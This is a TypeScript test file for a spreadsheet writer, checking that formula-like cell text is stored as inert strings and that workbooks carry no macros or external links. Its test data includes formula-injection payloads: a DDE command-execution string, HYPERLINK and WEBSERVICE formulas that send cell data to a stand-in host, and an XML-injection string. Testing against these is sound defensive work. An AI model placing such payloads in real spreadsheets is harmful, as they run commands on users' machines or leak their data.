import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readSpreadsheet } from '../../../connectors/spreadsheet/read-spreadsheet.ts';
import { writeSpreadsheet } from '../../../connectors/spreadsheet/write-spreadsheet.ts';
import { unpackArchive } from '../../../connectors/spreadsheet/zip-archive.ts';

async function partsOf(bytes: Uint8Array): Promise<ReadonlyMap<string, string>> {
  return new Map(
    [...unpackArchive(bytes)].map(([name, part]) => [name, new TextDecoder().decode(part)]),
  );
}

describe('a workbook that is written', () => {
  const dangerous = [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '=HYPERLINK("http://x.example?"&A1,"click")',
    '=WEBSERVICE("http://x.example")',
    '</t></is><f>1+1</f>',
  ];

  it('runs nothing: what begins like a formula is a text in a cell of texts', async () => {
    const rows = [['Field'], ...dangerous.map((each) => [each])];
    const bytes = await writeSpreadsheet([{ name: 'Fields', rows }]);
    const sheet = (await partsOf(bytes)).get('xl/worksheets/sheet1.xml') ?? '';
    expect(sheet).not.toMatch(/<f[\s>/]/);
    const cells = [...sheet.matchAll(/<c r="A(\d+)"[^>]*>/g)].map(([tag]) => tag);
    expect(cells).toHaveLength(rows.length);
    for (const cell of cells) expect(cell).toContain('t="s"');
    const back = await readSpreadsheet(bytes);
    expect(back).toMatchObject({ formulas: 0, sheets: [{ rows }] });
  });

  it('holds no link to another file, no macro and no connection', async () => {
    const bytes = await writeSpreadsheet([{ name: 'Fields', rows: [['Field'], ['x']] }]);
    const parts = await partsOf(bytes);
    expect(
      [...parts.keys()].filter((name) => /vba|macro|externalLink|connection/i.test(name)),
    ).toEqual([]);
    for (const xml of parts.values()) expect(xml).not.toContain('TargetMode="External"');
  });

  it('keeps its header in view and offers choices as lists', async () => {
    const bytes = await writeSpreadsheet([
      {
        name: 'Fields',
        rows: [['Field', 'Type']],
        choices: [{ column: 1, values: ['string', 'a<b', 'integer'] }],
      },
    ]);
    const sheet = (await partsOf(bytes)).get('xl/worksheets/sheet1.xml') ?? '';
    expect(sheet).toContain('state="frozen"');
    expect(sheet).toContain('sqref="B2:B2000"');
    expect(sheet).toContain('<formula1>"string,a&lt;b,integer"</formula1>');
    expect(sheet.indexOf('<dataValidations')).toBeGreaterThan(sheet.indexOf('</sheetData>'));
  });

  it('gives any text, number and truth value back as it was', async () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }),
      fc.constantFrom(
        ' lead',
        'trail ',
        'a\nb',
        'a\r\nb',
        '_x0041_',
        '_x005F_',
        '1.10',
        'TRUE',
        '2026-01-01',
        '#REF!',
      ),
      fc.double({ noNaN: true, noDefaultInfinity: true }).map((value) => value + 0),
      fc.boolean(),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(cell, { minLength: 1, maxLength: 6 }), async (cells) => {
        const printable = cells.filter(
          // XML cannot carry them, and contracts may not hold them.
          (each) =>
            typeof each !== 'string' ||
            !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|\p{Cs}/u.test(each),
        );
        const rows = [['x'], ...printable.map((each) => [each])];
        const back = await readSpreadsheet(await writeSpreadsheet([{ name: 'A', rows }]));
        expect(back.sheets[0]?.rows).toEqual(rows);
      }),
      { numRuns: 20, seed: 4 },
    );
  });

  it('is refused where a cell is longer than a spreadsheet program reads', async () => {
    await expect(writeSpreadsheet([{ name: 'A', rows: [['x'.repeat(40_000)]] }])).rejects.toThrow(
      'a cell has more than 32767 characters',
    );
  });
});
